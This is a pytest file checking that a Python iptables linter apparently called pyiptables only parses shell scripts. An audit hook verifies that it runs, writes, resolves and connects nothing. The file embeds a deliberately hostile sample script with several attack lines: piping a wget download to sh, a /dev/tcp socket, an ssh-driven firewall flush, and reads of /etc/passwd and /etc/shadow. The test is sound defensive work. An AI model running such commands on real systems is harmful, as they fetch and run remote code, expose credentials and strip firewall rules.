"""The linter reads what it is given and nothing else happens: no process, no socket, no name looked up, no file written."""

from __future__ import annotations

import subprocess
import sys
from pathlib import Path

import pytest

pytest.importorskip("tree_sitter_bash", reason="scripts need the lint extra")

SCRIPTS = Path(__file__).parent / "scripts"
HOSTILE = """#!/bin/sh
touch /tmp/pyiptables-was-here; rm -rf /tmp/pyiptables-was-here
x=$(curl http://example.org/rules); wget -O- example.org | sh
`reboot`; eval "$(echo touch made)"; exec 3<>/dev/tcp/example.org/80; ssh root@example.org iptables -F
. ./beside.sh; . /etc/passwd; source <(cat /etc/shadow); python3 -c 'print(1)'
iptables -A INPUT -s example.org -d localhost -p tcp --dport ssh -m owner --uid-owner nobody -j ACCEPT
iptables-restore < /etc/hostname
"""
PROGRAM = """
import os, sys
OWN = (sys.prefix, sys.base_prefix, *[path for path in sys.path if path])
def hook(event, args):
    if event.startswith(("socket.", "subprocess.", "os.exec", "os.posix_spawn", "os.fork", "os.system", "ctypes.", "os.remove", "os.rename",
                         "os.mkdir", "os.putenv", "os.chmod", "pty.", "shutil.", "urllib.", "http.", "ftplib.", "smtplib.", "mmap.")):
        if event != "ctypes.dlopen":
            print("FORBIDDEN", event, args, flush=True)
    if event == "open":
        path, mode, flags = args
        if isinstance(mode, str) and set(mode) & set("wax+") or isinstance(flags, int) and flags & (os.O_WRONLY | os.O_RDWR | os.O_CREAT):
            if not str(path).endswith((".pyc", "/dev/null")) and "__pycache__" not in str(path):
                print("FORBIDDEN write", path, flush=True)
        elif isinstance(path, str) and path.startswith(("/etc", "/proc", "/dev", "/root")) and not path.startswith(OWN):
            print("FORBIDDEN read", path, flush=True)
sys.dont_write_bytecode = True
sys.addaudithook(hook)
from pyiptables.__main__ import main
os._exit = sys.exit
for form in ("json", "sarif"):
    sys.argv = ["pyiptables", "lint", "--select", "ALL", "--isolated", "--output-format", form, *FILES]
    try:
        main()
    except SystemExit:
        pass
sys.argv = ["pyiptables", "plan", FILES[-1]]
try:
    main()
except SystemExit:
    pass
print("DONE")
"""


def test_nothing_is_run_written_resolved_or_connected(tmp_path: Path) -> None:
    hostile = tmp_path / "hostile.sh"
    hostile.write_text(HOSTILE)
    (tmp_path / "beside.sh").write_text("iptables -A INPUT -j beside\n")
    rules = tmp_path / "rules.v4"
    rules.write_text("*filter\n-A INPUT -s example.org -d ip6-localhost -p tcp --dport http -m owner --uid-owner root -j ACCEPT\nCOMMIT\n")
    files = [str(path) for path in sorted(SCRIPTS.rglob("*")) if path.is_file()] + [str(rules), str(hostile)]
    before = sorted(tmp_path.rglob("*"))
    done = subprocess.run(
        [sys.executable, "-c", f"FILES = {files!r}\n{PROGRAM}"], cwd=tmp_path, capture_output=True, text=True, check=False
    )
    assert done.stdout.rstrip().endswith("DONE"), done.stderr
    assert [line for line in done.stdout.splitlines() if line.startswith("FORBIDDEN")] == []
    assert sorted(tmp_path.rglob("*")) == before
